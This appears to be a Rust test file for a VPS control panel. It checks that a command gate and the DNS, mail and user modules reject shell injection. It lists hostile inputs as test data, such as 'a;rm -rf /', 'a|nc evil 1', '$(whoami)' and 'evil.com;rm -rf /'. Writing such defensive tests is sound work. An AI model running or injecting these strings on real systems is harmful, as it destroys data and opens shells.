/// Hostile input never reaches a process: the gate refuses unknown programs
/// and metacharacters, and every module validates before it runs anything.
mod common;

use async_trait::async_trait;
use common::{RecordingExecutor, Sandbox};
use std::sync::Arc;
use std::time::Duration;
use vpsctl::common::command::{validate_command, CommandGate, Executor, ProcessOutput};
use vpsctl::common::error::PanelError;
use vpsctl::common::security::audit_logger;
use vpsctl::dns::{AddRecordArgs, CreateZoneArgs, DnsTools};
use vpsctl::mail::types::AddDomainArgs;
use vpsctl::mail::MailTools;
use vpsctl::users::types::CreateUserArgs;
use vpsctl::users::UserTools;

const HOSTILE: &[&str] = &[
    "a;rm -rf /",
    "a && reboot",
    "a|nc evil 1",
    "$(whoami)",
    "`id`",
    "a > /etc/passwd",
    "a\nb",
];

fn gate(executor: Arc<RecordingExecutor>) -> CommandGate {
    CommandGate::new(executor, audit_logger(), Duration::from_secs(5))
}

#[tokio::test]
async fn test_gate_refuses_unlisted_programs() {
    let executor = RecordingExecutor::new();
    let gate = gate(executor.clone());

    for program in ["sh", "curl", "/bin/bash", "python3", "systemctl "] {
        let result = gate.run(program, &["--version"]).await;
        assert!(
            matches!(result, Err(PanelError::CommandNotAllowed(_))),
            "{} should be refused",
            program
        );
    }
    assert!(executor.calls().is_empty());
}

#[tokio::test]
async fn test_gate_refuses_metacharacters() {
    let executor = RecordingExecutor::new();
    let gate = gate(executor.clone());

    for arg in HOSTILE {
        let result = gate.run("systemctl", &["restart", arg]).await;
        assert!(
            matches!(result, Err(PanelError::InvalidArgument { .. })),
            "{:?} should be refused",
            arg
        );
        assert!(gate
            .run_with_stdin("mysql", &[arg], b"SELECT 1;")
            .await
            .is_err());
        assert!(gate.spawn_detached("bash", &["-c", arg]).is_err());
    }
    assert!(executor.calls().is_empty());
}

#[tokio::test]
async fn test_stdin_payload_is_not_checked() {
    let executor = RecordingExecutor::new();
    let gate = gate(executor.clone());

    gate.run_with_stdin("chpasswd", &[], b"shop:p@ss;word$(x)\n")
        .await
        .unwrap();
    assert_eq!(executor.calls().len(), 1);
}

#[test]
fn test_validate_command() {
    assert!(validate_command("nginx", &["-t"]).is_ok());
    assert!(validate_command("rm", &["-rf", "/var/mail/vhosts/example.com"]).is_ok());
    assert!(matches!(
        validate_command("nginx", &["-t", "-g", "daemon off;"]),
        Err(PanelError::InvalidArgument { character: ';', .. })
    ));
    assert!(matches!(
        validate_command("wget", &[]),
        Err(PanelError::CommandNotAllowed(_))
    ));
}

struct StuckExecutor;

#[async_trait]
impl Executor for StuckExecutor {
    async fn run(
        &self,
        _program: &str,
        _args: &[String],
        _stdin: Option<&[u8]>,
    ) -> std::io::Result<ProcessOutput> {
        tokio::time::sleep(Duration::from_secs(30)).await;
        Ok(ProcessOutput::default())
    }
}

#[tokio::test]
async fn test_gate_times_out_stuck_commands() {
    let gate = CommandGate::new(
        Arc::new(StuckExecutor),
        audit_logger(),
        Duration::from_millis(20),
    );
    let result = gate.run("postqueue", &["-f"]).await;
    assert!(matches!(result, Err(PanelError::Timeout { .. })));
}

#[tokio::test]
async fn test_failed_command_reports_stderr() {
    let executor = RecordingExecutor::new();
    executor.fail("nginx", "nginx: [emerg] invalid parameter");
    let gate = gate(executor);

    match gate.run("nginx", &["-t"]).await {
        Err(PanelError::ExecutionFailed { command, stderr }) => {
            assert_eq!(command, "nginx");
            assert_eq!(stderr, "nginx: [emerg] invalid parameter");
        }
        other => panic!("expected execution failure, got {:?}", other),
    }
}

#[tokio::test]
async fn test_hostile_zone_input_is_rejected() {
    let sb = Sandbox::new();
    let dns = DnsTools::new(sb.ctx.clone());

    for ip in HOSTILE {
        let result = dns
            .create_zone(CreateZoneArgs {
                domain: "example.com".to_string(),
                ip: ip.to_string(),
            })
            .await;
        assert!(matches!(result, Err(PanelError::Validation(_))), "{:?}", ip);
    }
    assert!(!sb.paths().zones_dir.join("example.com.db").exists());

    dns.create_zone(CreateZoneArgs {
        domain: "example.com".to_string(),
        ip: "203.0.113.10".to_string(),
    })
    .await
    .unwrap();
    for value in HOSTILE {
        let result = dns
            .add_record(
                "example.com",
                AddRecordArgs {
                    name: "www".to_string(),
                    ttl: None,
                    record_type: "TXT".to_string(),
                    value: value.to_string(),
                },
            )
            .await;
        assert!(result.is_err(), "{:?}", value);
    }
}

#[tokio::test]
async fn test_names_are_sanitized_before_use() {
    let sb = Sandbox::new();
    let mail = MailTools::new(sb.ctx.clone());

    let added = mail
        .add_domain(AddDomainArgs {
            domain: "evil.com;rm -rf /".to_string(),
        })
        .await
        .unwrap();
    assert_eq!(added.domain, "evil.comrm-rf");

    for call in sb.executor.calls() {
        for arg in &call.args {
            assert!(!arg.contains(';') && !arg.contains(' '), "{:?}", arg);
        }
    }
}

#[tokio::test]
async fn test_hostile_account_input_runs_nothing() {
    let sb = Sandbox::new();
    let users = UserTools::new(sb.ctx.clone());

    let bad_shell = users
        .create(CreateUserArgs {
            username: "shop".to_string(),
            password: "s3cret-passw0rd".to_string(),
            shell: Some("/bin/bash -c 'id'".to_string()),
            groups: None,
        })
        .await;
    assert!(matches!(bad_shell, Err(PanelError::Validation(_))));

    let bad_password = users
        .create(CreateUserArgs {
            username: "shop".to_string(),
            password: "line\nroot:owned".to_string(),
            shell: None,
            groups: None,
        })
        .await;
    assert!(matches!(bad_password, Err(PanelError::Validation(_))));

    let bad_groups = users
        .create(CreateUserArgs {
            username: "shop".to_string(),
            password: "s3cret-passw0rd".to_string(),
            shell: None,
            groups: Some("$()".to_string()),
        })
        .await;
    assert!(matches!(bad_groups, Err(PanelError::Validation(_))));

    assert!(sb.executor.calls().is_empty());
}
